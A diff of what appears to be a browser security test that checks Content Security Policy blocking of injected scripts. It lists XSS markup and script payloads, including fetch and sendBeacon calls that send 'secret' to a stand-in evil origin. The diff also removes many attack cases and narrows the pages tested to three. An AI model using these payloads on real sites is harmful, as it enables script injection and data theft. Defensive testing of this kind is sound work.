@@ -1,5 +1,4 @@
-import { every } from "../shared/full-run";
-import { allowError, collect, everyPage, expect, hydrated, paths, rewrite, test } from "./fixtures";
+import { allowError, collect, expect, hydrated, paths, rewrite, test } from "./fixtures";
 import { watchForCode } from "./hostile-page";
 
 /** The attacker's origin. It responds to every request with malicious code. */
@@ -13,8 +12,6 @@ const stopped =
 const markup: Record<string, string> = {
 	"<script>hacked('inline script')</script>": "script-src-elem inline",
 	[`<script src="${evil}/a.js"></script>`]: `script-src-elem ${evil}/a.js`,
-	[`<script type="module" src="${evil}/module.js"></script>`]: `script-src-elem ${evil}/module.js`,
-	"<script src=\"data:text/javascript,hacked('data script')\"></script>": "script-src-elem data",
 	"<img src='/favicon.svg' onload=hacked('handler')>": "script-src-attr inline",
 	"<p style='position:fixed;inset:0'>style attribute</p>": "style-src-attr inline",
 	"<style>body{display:none}</style>": "style-src-elem inline",
@@ -22,10 +19,7 @@ const markup: Record<string, string> = {
 	[`<base href="${evil}/">`]: `base-uri ${evil}/`,
 	[`<img src="${evil}/pixel.png">`]: `img-src ${evil}/pixel.png`,
 	[`<iframe src="${evil}/frame"></iframe>`]: `frame-src ${evil}`,
-	"<iframe src='data:text/html,<script>parent.hacked()</script>'></iframe>": "frame-src ",
 	[`<object data="${evil}/object"></object>`]: `object-src ${evil}`,
-	"<embed src='https://embed.evil.example/embed'>": "object-src https://embed.evil.example",
-	[`<video src="${evil}/video.mp4"></video>`]: `media-src ${evil}/video.mp4`,
 	// The script below clicks and submits these two.
 	"<a id='attack-link' href=\"javascript:hacked('link')\">link</a>": "script-src-elem inline",
 	[`<form id='attack-form' method="post" action="${evil}/form"><input name="password"></form>`]: `form-action ${evil}/form`,
@@ -36,16 +30,12 @@ const markup: Record<string, string> = {
 /** Attacks by a script from the site's own origin, and the directive that blocks each. */
 const doings: Record<string, string> = {
 	"eval(\"hacked('eval')\")": "require-trusted-types-for eval",
-	"new Function(\"hacked('Function')\")()": "require-trusted-types-for Function",
 	"setTimeout(\"hacked('setTimeout')\")": "require-trusted-types-for Window setTimeout",
-	"setInterval(\"hacked('setInterval')\")": "require-trusted-types-for Window setInterval",
 	[`import("${evil}/import.js")`]: `script-src-elem ${evil}/import.js`,
-	"import(\"data:text/javascript,hacked('data import')\")": "script-src-elem data",
 	"document.body.append(Object.assign(document.createElement('script'), { text: \"hacked('text')\" }))":
 		"require-trusted-types-for HTMLScriptElement text",
 	[`document.createElement('script').src = "${evil}/src.js"`]:
 		"require-trusted-types-for HTMLScriptElement src",
-	"document.createElement('p').setAttribute('style', 'color: red')": "style-src-attr inline",
 	"document.createElement('img').setAttribute('onerror', \"hacked('attribute')\")":
 		"require-trusted-types-for Element onerror",
 	"document.createElement('p').innerHTML = \"<img src=x onerror=hacked('innerHTML')>\"":
@@ -55,16 +45,8 @@ const doings: Record<string, string> = {
 	"trustedTypes.createPolicy('own', {})": "trusted-types trusted-types-policy",
 	"new Worker(URL.createObjectURL(new Blob([\"postMessage('alive')\"])))":
 		"require-trusted-types-for Worker constructor",
-	"new SharedWorker('data:text/javascript,1')":
-		"require-trusted-types-for SharedWorker constructor",
 	[`fetch("${evil}/fetch", { method: "POST", mode: "no-cors", body: "secret" })`]: `connect-src ${evil}/fetch`,
-	[`{ const request = new XMLHttpRequest(); request.open("GET", "${evil}/xhr"); request.send(); }`]: `connect-src ${evil}/xhr`,
 	[`navigator.sendBeacon("${evil}/beacon", "secret")`]: `connect-src ${evil}/beacon`,
-	[`new EventSource("${evil}/events")`]: `connect-src ${evil}/events`,
-	"new WebSocket('wss://evil.example/socket')": "connect-src wss://evil.example/socket",
-	[`new Image().src = "${evil}/image.png"`]: `img-src ${evil}/image.png`,
-	[`new FontFace("Evil", "url(${evil}/font.woff2)").load()`]: `font-src ${evil}/font.woff2`,
-	[`new Audio("${evil}/audio.mp3").load()`]: `media-src ${evil}/audio.mp3`,
 	"document.getElementById('attack-link').click()": "script-src-elem inline",
 	"document.getElementById('attack-form').submit()": `form-action ${evil}/form`,
 };
@@ -78,7 +60,7 @@ interface TrustedTypes {
 	defaultPolicy: object | null;
 }
 
-for (const path of every(everyPage, ["/get-started", "/no-such-page"])) {
+for (const path of ["/contact", "/get-started", "/no-such-page"]) {
 	test(`${path}: injected markup and scripts can't run code, change the page or send data`, async ({
 		page,
 		baseURL,
@@ -108,8 +90,7 @@ for (const path of every(everyPage, ["/get-started", "/no-such-page"])) {
 		const attack = Object.keys(doings)
 			// Each attack alone: what one throws or rejects with doesn't stop the next.
 			.map((doing) => `try { Promise.resolve(${doing}).catch(() => {}); } catch {}`)
-			.join("\n")
-			.replace(/Promise\.resolve\((\{.*\})\)\.catch\(\(\) => \{\}\);/g, "$1");
+			.join("\n");
 		await page.route("**/attack.js", (route) =>
 			route.fulfill({
 				contentType: "text/javascript",
